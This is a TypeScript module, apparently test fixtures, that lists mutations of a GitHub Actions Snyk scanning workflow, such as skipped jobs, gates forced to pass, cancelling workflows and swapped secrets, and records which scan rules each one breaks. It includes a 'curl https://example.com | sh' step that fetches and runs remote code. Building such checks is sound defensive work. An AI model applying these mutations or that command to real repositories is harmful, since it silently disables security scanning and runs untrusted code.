import type { StatementId } from "../../../policy/statements";
import type { JsonTree } from "../folder";
import { bodyKind, type Kind } from "../kind";
import {
  at,
  attributeKind,
  CADENCE,
  documentKind,
  FILE,
  type FileChange,
  fileKind,
  PENTESTS,
  SCANS,
  SNYK,
} from "../written-files";

/** Some parts of the Snyk workflow take other values, each a change of its own. */
const snyk = (
  name: string,
  breaks: readonly StatementId[],
  path: readonly (string | number)[],
  ...members: readonly JsonTree[]
): Kind => changing(name, SNYK, breaks, path, members);

const changing = (
  name: string,
  file: string,
  breaks: readonly StatementId[],
  path: readonly (string | number)[],
  members: readonly JsonTree[],
): Kind =>
  documentKind(name, file, () =>
    members.map((each) => ({
      ...{ what: JSON.stringify(each), breaks },
      change: (root) => assign(at(root, ...path), each),
    })),
  );

/** Sets members; one that is undefined is taken away. */
function assign(target: JsonTree, members: JsonTree): void {
  for (const [key, value] of Object.entries(members)) {
    if (value === undefined) Reflect.deleteProperty(target, key);
    else target[key] = value;
  }
}

const steps = (document: JsonTree, job: string): JsonTree[] =>
  at(document, "jobs", job)["steps"] as unknown as JsonTree[];

/** The step of the Snyk job that scans. */
const scanStep = (document: JsonTree): JsonTree => step(document, "scan", "Scan");

function step(document: JsonTree, job: string, name: string): JsonTree {
  const found = steps(document, job).find((each) => each["name"] === name);
  if (found === undefined) throw new Error(`job ${job} has no step "${name}"`);
  return found;
}

/** The options that a step of the scan gives its action. */
const optionsOf = (document: JsonTree, name: string): JsonTree => step(document, "scan", name)["with"] as JsonTree;

const scanning = (name: string, breaks: readonly StatementId[], ...members: readonly JsonTree[]): Kind =>
  documentKind(name, SNYK, () =>
    members.map((each) => ({
      ...{ what: JSON.stringify(each), breaks },
      change: (root) => assign(scanStep(root), each),
    })),
  );

const scanEnvironment = (name: string, breaks: readonly StatementId[], ...members: readonly JsonTree[]): Kind =>
  documentKind(name, SNYK, () =>
    members.map((each) => ({
      ...{ what: JSON.stringify(each), breaks },
      change: (root) => assign(scanStep(root)["env"] as JsonTree, each),
    })),
  );

/** Whether a workflow of others can be added that ends the scans or reports their check. */
const OTHER_WORKFLOWS: readonly string[] = [
  "on: push\npermissions: { actions: write }\njobs: { stop: { runs-on: ubuntu-latest, steps: [{ run: 'gh run cancel' }] } }\n",
  "on: push\njobs: { snyk-gate: { name: snyk-gate, runs-on: ubuntu-latest, steps: [{ run: 'true' }] } }\n",
  "on: push\npermissions: { checks: write }\njobs: { report: { runs-on: ubuntu-latest, steps: [{ run: 'true' }] } }\n",
  "on: push\npermissions: { statuses: write }\njobs: { report: { runs-on: ubuntu-latest, steps: [{ run: 'true' }] } }\n",
  "on: push\nconcurrency: { group: 'snyk-$${{ github.event.head_commit.message }}', cancel-in-progress: true }\npermissions: {}\njobs: { stop: { runs-on: ubuntu-latest, steps: [{ run: 'true' }] } }\n",
  "on: push\npermissions: {}\njobs: { stop: { runs-on: ubuntu-latest, steps: [{ env: { GH_TOKEN: '$${{ secrets.ADMIN }}' }, run: 'gh workflow disable' }] } }\n",
  "not: [a workflow",
];

const NAMELESS_GATE =
  "on: push\npermissions: {}\njobs: { snyk-gate: { name: '', runs-on: ubuntu-latest, steps: [{ run: 'true' }] } }\n";

/** Members for which GitHub refuses a workflow and runs nothing of it. */
const REFUSED: readonly (readonly [what: string, path: readonly (string | number)[], member: JsonTree])[] = [
  ["a condition", ["jobs", "scan"], { if: "$${{ secrets.SNYK_TOKEN != '' }}" }],
  ["another job's condition", ["jobs", "report"], { if: "$${{ runner.os == 'Linux' }}" }],
  ["a permission", ["jobs", "report", "permissions"], { bogus: "read" }],
  ["a key of a job", ["jobs", "report"], { rogue: 1 }],
  ["a key of a step", ["jobs", "scan", "steps", 0], { rogue: 1 }],
  ["a job to wait for", ["jobs", "report"], { needs: ["ghost"] }],
  [
    "an id of a step",
    ["jobs", "report"],
    {
      steps: [
        { id: "a", run: "true" },
        { id: "a", run: "true" },
      ],
    },
  ],
  ["an event", ["on"], { pushed: null }],
  ["filters", ["on", "push"], { "branches-ignore": ["other"] }],
  ["minutes", ["jobs", "report"], { "timeout-minutes": "soon" }],
  ["a matrix", ["jobs", "report"], { strategy: { matrix: { x: [] } } }],
  ["a group", ["concurrency"], { group: "$${{ runner.temp }}-$${{ github.run_id }}" }],
];

const dropStep =
  (file: string, job: string, names: readonly string[], breaks: readonly StatementId[]) => (): readonly FileChange[] =>
    names.map((name) => ({
      ...{ what: name, breaks },
      change: (root) => {
        at(root, "jobs", job)["steps"] = steps(root, job).filter((each) => each["name"] !== name);
      },
    }));

/** Other values in the place of one, while the rest stays as it is. */
const VALUES: readonly (readonly [from: string, to: string])[] = [
  ["main", "release"],
  ["SEVERITY_THRESHOLD: high", "SEVERITY_THRESHOLD: critical"],
  ['BLOCK_WHEN_UNAVAILABLE: "false"', 'BLOCK_WHEN_UNAVAILABLE: "true"'],
  ['DEPENDABOT_SECRET: "true"', 'DEPENDABOT_SECRET: "false"'],
  ["secrets.SNYK_TOKEN", "secrets.OTHER"],
  ['manifest: "', 'manifest: "other/'],
  ['unscannable: ""', 'unscannable: "pass"'],
  ["runs-on: ubuntu-24.04", "runs-on: self-hosted"],
  ["v1.1306.4", "v1.1306.5"],
  ["actions/checkout@3d3c42e5", "actions/checkout@00000000"],
];

const ALWAYS = "$${{ always() }}";

export const WORKFLOW_KINDS: readonly Kind[] = [
  bodyKind("drop a workflow", FILE, ({ body }) => [
    ...(body["file"] === SNYK ? [{ breaks: SCANS }] : []),
    ...(body["file"] === CADENCE ? [{ breaks: PENTESTS.slice(0, 1) }] : []),
  ]),
  bodyKind("drop a program of a workflow", FILE, ({ body }) =>
    /snyk-(?:scan|verdict)\.cjs$/.test(String(body["file"])) ? [{ breaks: SCANS }] : [],
  ),
  fileKind("tell the known workflow something else", SNYK, () =>
    VALUES.map(([from, to]) => ({
      ...{ what: `${from} is ${to}`, breaks: SCANS },
      change: (text) => text.replaceAll(from, to),
    })),
  ),
  ...["snyk-scan.cjs", "snyk-requirements.cjs", "snyk-verdict.cjs"].map((program) =>
    fileKind(`change ${program}`, `.github/security/${program}`, () => [
      { breaks: SCANS, change: (text) => text.replace('"use strict";', '"use strict";\nprocess.exit(0);') },
      { what: "empty", breaks: SCANS, change: () => "" },
    ]),
  ),
  attributeKind(
    "write the Snyk workflow elsewhere",
    SNYK,
    SCANS,
    { branch: "other" },
    { file: ".github/workflows/old/snyk.yml" },
    { repository: "other" },
  ),
  attributeKind(
    "let the apply say what the Snyk workflow is",
    SNYK,
    SCANS,
    { content: "${var.workflow}" },
    { count: "${var.count}" },
  ),
  fileKind("break the Snyk workflow", SNYK, () => [
    { what: "no YAML", breaks: SCANS, change: (text) => `${text}\n  - ]` },
    { what: "an interpolation", breaks: SCANS, change: (text) => text.replaceAll("$${{", "${") },
    { what: "nothing", breaks: SCANS, change: () => "" },
    { what: "two documents", breaks: SCANS, change: (text) => `${text}\n---\non: push\n` },
    ...["\r", "\u0085", "\u2028", "\u2029"].map((end) => ({
      what: `a line that ${JSON.stringify(end)} ends`,
      breaks: SCANS,
      change: (text: string) =>
        text.replace("\n    runs-on:", `\n    #${end}    continue-on-error: true\n    runs-on:`),
    })),
  ]),
  snyk("drop the push trigger", ["SCAN-3"], ["on"], { push: undefined }),
  snyk("drop the pull request trigger", ["SCAN-1"], ["on"], { pull_request: undefined }),
  snyk("drop the schedule", ["SCAN-4"], ["on"], { schedule: undefined }, { schedule: [] }),
  snyk("start on another event only", SCANS, [], { on: "workflow_dispatch" }, { on: ["workflow_call"] }),
  snyk(
    "scan other branches",
    ["SCAN-3"],
    ["on"],
    { push: { branches: ["release"] } },
    { push: { branches: ["main2"] } },
    { push: { "branches-ignore": ["main"] } },
    { push: { branches: ["main", "!main"] } },
    { push: { branches: ["m?in*"] } },
    { push: { tags: ["v*"] } },
  ),
  snyk(
    "gate other branches",
    ["SCAN-1"],
    ["on"],
    { pull_request: { branches: ["release"] } },
    { pull_request: { types: ["labeled"] } },
  ),
  snyk(
    "scan some paths only",
    ["SCAN-3"],
    ["on"],
    { push: { branches: ["main"], paths: ["src/**"] } },
    { push: { branches: ["main"], "paths-ignore": ["docs/**"] } },
  ),
  snyk("gate some paths only", ["SCAN-1"], ["on"], { pull_request: { branches: ["main"], paths: ["uv.lock"] } }),
  snyk(
    "scan less than weekly",
    ["SCAN-4"],
    ["on"],
    ...[
      "48 5 1 * *",
      "48 5 */8 * *",
      "48 5 2 1 *",
      "48 5 31 2 *",
      "48 5 1-7 * *",
      "48 5 * 1-11 2",
      "48 5 * * 8",
      "nonsense",
    ].map((cron) => ({ schedule: [{ cron }] })),
    { schedule: [{ cron: "48 5 * * 2", timezone: "Europe/Berlin" }] },
    { schedule: "48 5 * * 2" },
  ),
  snyk(
    "let runs end each other",
    ["SCAN-3"],
    [],
    { concurrency: "snyk" },
    { concurrency: { group: "snyk", "cancel-in-progress": true } },
    { concurrency: { group: "snyk-$${{ github.ref }}", "cancel-in-progress": false } },
    { concurrency: { group: "$${{ github.workflow }}-$${{ github.event_name }}" } },
  ),
  snyk("let runs on schedule end each other", ["SCAN-4"], [], {
    concurrency: { group: "snyk-$${{ github.event_name }}", "cancel-in-progress": true },
  }),
  snyk(
    "cancel runs in progress",
    ["SCAN-3"],
    ["concurrency"],
    { "cancel-in-progress": true, group: "snyk" },
    { "cancel-in-progress": "$${{ github.event_name == 'push' }}", group: "snyk" },
  ),
  snyk(
    "leave jobs out",
    SCANS,
    ["jobs", "scan"],
    { if: "false" },
    { if: "$${{ github.actor != 'dependabot[bot]' && false }}" },
    { if: "$${{ vars.SCAN == 'yes' }}" },
    { needs: ["gate"] },
  ),
  snyk(
    "leave pushes out",
    ["SCAN-3"],
    ["jobs", "scan"],
    { if: "github.event_name != 'push'" },
    { if: "github.event_name == 'schedule'" },
    { if: "github.ref != 'refs/heads/main' || github.event_name != 'push'" },
  ),
  snyk("leave the schedule out", ["SCAN-4"], ["jobs", "scan"], { if: "github.event_name != 'schedule'" }),
  snyk(
    "leave pull requests out",
    ["SCAN-1"],
    ["jobs", "scan"],
    { if: "github.event_name != 'pull_request'" },
    { if: "!github.event.pull_request" },
  ),
  snyk(
    "let the scan's job continue on error",
    SCANS,
    ["jobs", "scan"],
    { "continue-on-error": true },
    { "continue-on-error": "$${{ true }}" },
  ),
  snyk("let the scan's job end early", SCANS, ["jobs", "scan"], { "timeout-minutes": 1 }, { "timeout-minutes": 0 }),
  snyk(
    "scan on a machine of others",
    SCANS,
    ["jobs", "scan"],
    { "runs-on": "self-hosted" },
    { "runs-on": "windows-latest" },
    { container: "node:20" },
  ),
  snyk(
    "take the scan's permissions away",
    SCANS,
    ["jobs", "scan"],
    { permissions: {} },
    { permissions: { contents: "none" } },
  ),
  snyk(
    "let the scan's job do more than scan",
    SCANS,
    ["jobs", "scan", "permissions"],
    { checks: "write" },
    { actions: "write" },
    { contents: "write" },
    { statuses: "write" },
  ),
  scanning("let the scan continue on error", ["SCAN-1"], { "continue-on-error": true }),
  scanning(
    "leave the scan's step out",
    SCANS,
    { if: "$${{ false }}" },
    { if: "github.event_name == 'workflow_dispatch'" },
  ),
  scanning(
    "run something else than the scan",
    SCANS,
    { run: "true" },
    { run: 'node "$PROGRAMS/.github/security/snyk-scan.cjs" || true' },
    { run: "node other.cjs" },
    { shell: "cat {0}" },
    { "working-directory": "other" },
  ),
  scanEnvironment(
    "drop the scan's secret",
    SCANS,
    { SNYK_TOKEN: undefined },
    { SNYK_TOKEN: "" },
    { SNYK_TOKEN: "$${{ vars.SNYK_TOKEN }}" },
  ),
  scanEnvironment(
    "take another secret",
    SCANS,
    { SNYK_TOKEN: "$${{ secrets.OTHER }}" },
    { SNYK_TOKEN: "$${{ github.token }}" },
  ),
  scanEnvironment("write the secret into the workflow", SCANS, { SNYK_TOKEN: "0123456789abcdef" }),
  scanEnvironment(
    "scan another manifest",
    SCANS,
    { MANIFEST: "other.lock" },
    { PACKAGE_MANAGER: "other" },
    { MANIFEST: undefined },
  ),
  scanEnvironment(
    "raise the scan's threshold",
    SCANS,
    { SEVERITY_THRESHOLD: "critical" },
    { SEVERITY_THRESHOLD: undefined },
  ),
  scanEnvironment(
    "tell the scan more",
    SCANS,
    { NODE_OPTIONS: "--require ./other.cjs" },
    { SNYK_API: "https://example.com" },
    { PATH: "." },
  ),
  scanEnvironment(
    "let the scan's report take the place of another file",
    SCANS,
    { SARIF_FILE: "$${{ matrix.manifest }}" },
    { SARIF_FILE: "/usr/local/bin/snyk" },
    { SARIF_FILE: "../snyk.sarif" },
    { SARIF_FILE: "$${{ github.workspace }}" },
  ),
  documentKind("install a version of Snyk that isn't there", SNYK, () =>
    ["v0.0.0", "latest", "", undefined].map((version) => ({
      ...{ what: String(version), breaks: SCANS },
      change: (root) => assign(optionsOf(root, "Set up the Snyk CLI"), { "snyk-version": version }),
    })),
  ),
  documentKind("check out less than the base", SNYK, () =>
    ["", 1, 1.5, "1.5", "one", undefined].map((depth) => ({
      ...{ what: JSON.stringify(depth) ?? "", breaks: ["SCAN-1"] },
      change: (root) => assign(optionsOf(root, "Check out"), { "fetch-depth": depth }),
    })),
  ),
  documentKind("set something up twice", SNYK, () =>
    ["Check out", "Set up the Snyk CLI"].map((name) => ({
      ...{ what: name, breaks: SCANS },
      change: (root) =>
        void steps(root, "scan").splice(
          steps(root, "scan").findIndex((each) => each["name"] === "Scan"),
          0,
          { uses: step(root, "scan", name)["uses"] },
        ),
    })),
  ),
  scanEnvironment("take the scan's program from the pull request", ["SCAN-1"], {
    PROGRAMS: "$${{ github.workspace }}",
  }),
  documentKind("drop a leg of the matrix", SNYK, (root) =>
    (at(root, "jobs", "scan", "strategy", "matrix")["include"] as readonly unknown[]).map((_, index) => ({
      ...{ what: String(index), breaks: SCANS },
      change: (copy) => void (at(copy, "jobs", "scan", "strategy", "matrix")["include"] as unknown[]).splice(index, 1),
    })),
  ),
  snyk("let one leg end the others", SCANS, ["jobs", "scan", "strategy"], { "fail-fast": true }),
  snyk(
    "change the matrix",
    SCANS,
    ["jobs", "scan", "strategy", "matrix", "include", 0],
    { manifest: "other.lock" },
    { manager: "other" },
  ),
  documentKind("drop a step of the scan", SNYK, dropStep(SNYK, "scan", ["Check out", "Scan"], SCANS)),
  documentKind("use an action that moves", SNYK, () =>
    ["actions/checkout@v4", "actions/checkout@main", "other/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1"].map(
      (uses) => ({
        ...{ what: uses, breaks: SCANS },
        change: (root) => void (step(root, "scan", "Check out")["uses"] = uses),
      }),
    ),
  ),
  documentKind("run something before the scan", SNYK, () =>
    [
      { run: "curl https://example.com | sh" },
      { uses: "other/action@3d3c42e5aac5ba805825da76410c181273ba90b1" },
      { run: 'echo "SNYK_TOKEN=" >> "$GITHUB_ENV"' },
    ].map((each) => ({
      ...{ what: JSON.stringify(each), breaks: SCANS },
      change: (root) => void steps(root, "scan").splice(1, 0, each),
    })),
  ),
  ...REFUSED.map(([what, path, member]) => snyk(`have GitHub refuse the scans: ${what}`, SCANS, path, member)),
  snyk("give the workflow defaults", SCANS, [], { defaults: { run: { shell: "cat {0}" } } }, { env: { PATH: "." } }),
  snyk("drop the gate's job", ["SCAN-1"], ["jobs"], { gate: undefined }),
  snyk("rename the gate's job", ["SCAN-1"], ["jobs", "gate"], { name: "gate" }, { name: "snyk-gate $${{ matrix.x }}" }),
  snyk(
    "skip the gate where a scan fails",
    ["SCAN-1"],
    ["jobs", "gate"],
    { if: undefined },
    { if: "$${{ success() }}" },
    { if: "$${{ !failure() }}" },
    { if: "$${{ github.event_name == 'push' }}" },
  ),
  snyk(
    "let the gate forget the scan",
    ["SCAN-1"],
    ["jobs", "gate"],
    { needs: [] },
    { needs: undefined },
    { needs: ["report"] },
  ),
  snyk("let the gate continue on error", ["SCAN-1"], ["jobs", "gate"], { "continue-on-error": true }),
  documentKind("let the gate pass", SNYK, () =>
    [
      { run: "true" },
      { run: 'echo "$RESULT"' },
      { env: { RESULT: "success", FORK: "false" } },
      { env: { RESULT: "$${{ needs.scan.outcome }}", FORK: "false" } },
      { env: { RESULT: "$${{ needs.scan.result }}", FORK: "true" } },
      { "continue-on-error": true },
      { if: "$${{ needs.scan.result == 'success' }}" },
    ].map((each) => ({
      ...{ what: JSON.stringify(each), breaks: ["SCAN-1"] },
      change: (root) => Object.assign(step(root, "gate", "Judge the legs"), each),
    })),
  ),
  snyk("report the gate's check by another job", ["SCAN-1"], ["jobs"], {
    other: { name: "snyk-gate", if: ALWAYS, "runs-on": "ubuntu-24.04", permissions: {}, steps: [{ run: "true" }] },
  }),
  bodyKind("report the gate's check by a job without a name", FILE, ({ type, body }) =>
    [NAMELESS_GATE]
      .filter(() => body["file"] === SNYK)
      .map((content) => ({
        breaks: ["SCAN-1"] as const,
        change: (copy, beside) =>
          beside({ type, name: "Other", body: { ...copy, file: ".github/workflows/other.yml", content } }),
      })),
  ),
  bodyKind("add a workflow that disturbs the scans", FILE, ({ type, body }) =>
    OTHER_WORKFLOWS.filter(() => body["file"] === SNYK).map((content) => ({
      ...{ what: JSON.stringify(content), breaks: SCANS },
      change: (copy, beside) =>
        beside({ type, name: "Other", body: { ...copy, file: ".github/workflows/other.yml", content } }),
    })),
  ),
  bodyKind("add a workflow of another branch that disturbs the scans", FILE, ({ type, body }) =>
    OTHER_WORKFLOWS.filter(() => body["file"] === SNYK).map((content) => ({
      ...{ what: JSON.stringify(content), breaks: SCANS },
      change: (copy, beside) =>
        beside({
          ...{ type, name: "Other" },
          body: { ...copy, file: ".github/workflows/other.yml", branch: "other", content },
        }),
    })),
  ),
  bodyKind("give the Snyk workflow a second owner", FILE, ({ type, body }) =>
    body["file"] === SNYK
      ? [{ breaks: SCANS, change: (copy, beside) => beside({ type, name: "Second", body: { ...copy } }) }]
      : [],
  ),
  bodyKind("have Snyk ignore what it finds", FILE, ({ type, body }) =>
    body["file"] === SNYK
      ? [
          {
            breaks: ["SCAN-1"],
            change: (copy, beside) =>
              beside({ type, name: "Other", body: { ...copy, file: ".snyk", content: "ignore: {}" } }),
          },
        ]
      : [],
  ),
];
